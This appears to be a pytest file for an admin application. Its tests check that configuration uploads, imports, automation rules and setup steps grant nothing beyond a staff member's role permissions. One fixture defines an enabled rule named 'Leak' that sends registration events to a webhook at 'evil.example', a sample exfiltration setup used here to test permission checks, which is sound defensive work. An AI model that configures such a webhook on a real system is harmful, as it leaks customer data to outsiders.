"""What people set up for themselves gives nobody more than their role does: rules, files, imports, the builder."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from app import db
from app.domain import automation
from app.domain import staff as people
from app.domain.config import applying
from app.domain.config.planning import export
from app.domain.imports.records import import_records
from app.errors import AppError, Conflict, Forbidden
from app.models.automation import Rule
from app.models.bulk import BulkKind, BulkRun, BulkState
from app.models.customers import Attitude
from app.models.imports import ImportState
from app.models.staff import Staff
from app.models.views import ViewKind
from app.observe import Actor, Kind, acting
from tests import factories as make
from tests.admin_views.conftest import SignIn, create_staff

CONFIGURE = ("project", "action:configuration")
LOOK = "/admin/configuration/look"


@pytest.fixture
def engine_name() -> str:
    """Nothing here depends on the database."""
    return "sqlite"


def upload(text: str) -> dict[str, tuple[str, bytes, str]]:
    return {"files": ("desk.yaml", text.encode(), "application/yaml")}


async def why(browser: httpx.AsyncClient, screen: str, condition: Any, pk: int) -> Any:
    data = {"condition": json.dumps(condition), "pk": str(pk)}
    return (await browser.post(f"/admin/{screen}/condition", data=data)).json().get("why")


async def test_nothing_is_explained_of_a_row_that_the_list_does_not_show(sign_in: SignIn, database: str) -> None:
    other, curious = await create_staff([]), await create_staff([("saved_view", "list"), ("attachment", "list")])
    async with db.unit() as session:
        run = BulkRun(name="Secret", kind=BulkKind.EDIT, noun="customer", state=BulkState.DONE, staff_id=other.id)
        session.add(run)
        mine = BulkRun(name="Mine", kind=BulkKind.EDIT, noun="customer", state=BulkState.DONE, staff_id=curious.id)
        session.add(mine)
        view = await make.create_view(session, name="Secret", kind=ViewKind.PRIVATE, staff_id=other.id)
    browser = await sign_in(curious)
    asked = {"field": "name", "op": "contains", "value": "Secret"}
    assert await why(browser, "bulk_run", asked, run.id) == {"in": False, "lines": []}
    assert await why(browser, "saved_view", asked, view.id) == {"in": False, "lines": []}
    assert (await why(browser, "bulk_run", asked, mine.id))["lines"], "of their own they are told"


async def test_a_file_of_rows_changes_none_for_whoever_may_only_add(database: str, tmp_path: Path) -> None:
    async with db.unit() as session:
        await make.create_attitude(session, name="Loyal", hue=1)
    path = tmp_path / "rows.csv"
    path.write_text("Name,Colour\nLoyal,5\nNew,3\n")
    report = await import_records(path, table="attitude", fields=["name", "hue"], change=False)
    assert (report.created, report.updated, report.failed) == (1, 0, 1)
    async with db.reads() as session:
        assert await session.scalar(select(Attitude.hue).where(Attitude.name == "Loyal")) == 1


RULE = "rules:\n- {name: Leak, trigger: registered, enabled: true, actions: [{kind: webhook, url: 'https://evil.example/'}]}\n"


@pytest.mark.parametrize(
    ("text", "needed"),
    [
        ("attitudes:\n- {name: Loyal, hue: 1}\n", [("attitude", "create")]),
        ("roles:\n- {name: Small, grants: {}}\n", [("role", "create")]),
        (RULE, [("automation_rule", "create"), ("automation_rule", "action:switch"), ("customer", "export")]),
        ("views:\n- {name: All, screen: customer, kind: shared}\n", [("saved_view", "edit")]),
        (
            "segments:\n- {name: Poor, condition: {field: balance, op: at_most, value: 0}}\n",
            [("segment", "create"), ("account", "list")],
        ),
    ],
)
async def test_a_file_gives_nothing_that_the_panel_would_not(
    sign_in: SignIn, database: str, text: str, needed: list[tuple[str, str]]
) -> None:
    for missing in needed:
        rest = [pair for pair in needed if pair != missing]
        answer = await (await sign_in(await create_staff([CONFIGURE, *rest]))).post(LOOK, files=upload(text))
        assert answer.status_code == 422, missing
    granted = await (await sign_in(await create_staff([CONFIGURE, *needed]))).post(LOOK, files=upload(text))
    assert granted.status_code == 200, granted.text


async def test_what_is_removed_by_a_file_takes_the_right_to_remove_it(database: str) -> None:
    async with db.unit() as session:
        able = await make.create_staff(session, grants=[("attitude", "delete")])
        few = await make.create_staff(session, grants=[("attitude", "create"), ("attitude", "edit")])
    async with db.reads() as session:
        text = await export(session)
    async with db.unit() as session:
        await make.create_attitude(session, name="Loyal")
    with acting(Actor(Kind.STAFF, few.id)), pytest.raises(AppError, match="Attitudes"):
        await applying.rehearse(text.encode(), prune=True)
    with acting(Actor(Kind.STAFF, able.id)):
        assert (await applying.rehearse(text.encode(), prune=True)).differences.count("remove") == 1


ACTIONS: list[tuple[dict[str, Any], tuple[str, str]]] = [
    ({"kind": "webhook", "url": "https://x.example/"}, ("customer", "export")),
    ({"kind": "set", "field": "note", "value": "x"}, ("customer", "edit")),
    ({"kind": "ticket", "subject": "s", "text": "t"}, ("ticket", "edit")),
]


async def test_a_rule_does_nothing_that_its_author_may_not(database: str) -> None:
    async with db.unit() as session:
        able = await make.create_staff(session, grants=[("automation_rule", "*"), *(pair for _a, pair in ACTIONS)])
        few = await make.create_staff(session, grants=[("automation_rule", "*")])
    for n, (action, _pair) in enumerate(ACTIONS):
        values = {"name": f"R{n}", "trigger": "registered", "actions": [action]}
        with acting(Actor(Kind.STAFF, few.id)), pytest.raises(Forbidden):
            async with db.unit() as session:
                await automation.save_rule(session, values=values)
        with acting(Actor(Kind.STAFF, able.id)):
            async with db.unit() as session:
                rule = await automation.save_rule(session, values=values)
        with acting(Actor(Kind.STAFF, few.id)):
            with pytest.raises(Forbidden):
                async with db.unit() as session:
                    row = await session.get_one(Rule, rule.id)
                    await automation.save_rule(session, values={"name": "Mine", "condition": None}, rule=row)
            with pytest.raises(Forbidden):
                async with db.unit() as session:
                    await automation.switch(session, rule=await session.get_one(Rule, rule.id), on=True)
            async with db.unit() as session:  # stopping what somebody else began is no risk
                await automation.switch(session, rule=await session.get_one(Rule, rule.id), on=False)
    below = {"name": "Below", "trigger": "balance", "amount": 0, "currency": "EUR",
             "actions": [{"kind": "notify", "text": "x", "staff_id": able.id}]}  # fmt: skip
    with acting(Actor(Kind.STAFF, able.id)), pytest.raises(Forbidden):
        async with db.unit() as session:
            await automation.save_rule(session, values=below)


async def test_a_rule_tells_nobody_what_they_may_not_see(sign_in: SignIn, database: str) -> None:
    poor = {"field": "balance", "op": "at_most", "value": 0}
    async with db.unit() as session:
        customer = await make.create_customer(session, name="Ada")
        await make.create_account(session, customer=customer)
        staff = await make.create_staff(session)
        told = [{"kind": "notify", "text": "x", "staff_id": staff.id}]
        daily = await automation.save_rule(
            session, values={"name": "Poor", "trigger": "daily", "clock": "09:00", "condition": poor, "actions": told}
        )
        below = await automation.save_rule(
            session, values={"name": "Low", "trigger": "balance", "amount": 100, "currency": "EUR", "actions": told}
        )
    seeing = [("automation_rule", "*"), ("customer", "list"), ("customer", "details")]
    blind = await sign_in(await create_staff(seeing))
    for rule in (daily, below):
        url = "/admin/automation_rule/action/try"
        page = await blind.get(url, params={"pks": rule.id})
        assert page.status_code == 200 and "Ada" not in page.text and "may not see" in page.text
        one = {"pks": str(rule.id), "customer": str(customer.id), "_look": "1"}
        looked = await blind.post(url, data=one, headers={"x-fragment": "look"})
        assert "may not see" in looked.text and "Holds" not in looked.text
        pressed = await blind.post(url, data={"pks": str(rule.id)}, follow_redirects=True)
        assert "may not see" in pressed.text
    able = await sign_in(await create_staff([*seeing, ("account", "list")]))
    assert "Ada" in (await able.get("/admin/automation_rule/action/try", params={"pks": daily.id})).text


async def test_an_import_takes_the_right_to_write_customers(sign_in: SignIn, database: str) -> None:
    async with db.unit() as session:
        project = await make.create_project(session)
        run = await make.create_import(session, project=project, state=ImportState.CHECKED, created=1)
    press = {"pks": str(run.id)}
    for more, status in (([], 422), ([("customer", "create"), ("customer", "edit")], 303)):
        browser = await sign_in(await create_staff([("import_run", "*"), *more]))
        answer = await browser.post("/admin/import_run/action/start", data=press)
        assert answer.status_code == status, answer.text


async def test_the_last_owner_limits_themselves_to_no_project(database: str) -> None:
    async with db.unit() as session:
        mine = await make.create_project(session)
        owner, other = [await make.create_staff(session, grants=[("*", "*")], password_hash="x") for _n in "ab"]
        await people.set_projects(session, staff=other, projects=[mine.id])
    with acting(Actor(Kind.STAFF, owner.id)):
        for work in (
            lambda s, row: people.set_projects(s, staff=row, projects=[mine.id]),
            lambda s, row: people.change_staff(s, staff=row, values={"enabled": False}),
        ):
            with pytest.raises(Conflict):
                async with db.unit() as session:
                    await work(session, await session.get_one(Staff, owner.id))
        async with db.unit() as session:
            await people.set_projects(session, staff=await session.get_one(Staff, other.id), projects=[])
            await people.set_projects(session, staff=await session.get_one(Staff, owner.id), projects=[mine.id])


async def test_setting_up_invites_colleagues_only_for_who_may(sign_in: SignIn, database: str) -> None:
    async with db.unit() as session:
        await make.create_role(session, name="Small", grants=[])
    invited = {"full_name_0": "Eve", "email_0": "eve@example.org", "role_0": "Small"}
    for more, status in (([], 422), ([("staff", "create")], 303)):
        browser = await sign_in(await create_staff([CONFIGURE, *more]))
        answer = await browser.post("/admin/setup?step=colleagues", data=invited)
        assert answer.status_code == status, answer.text
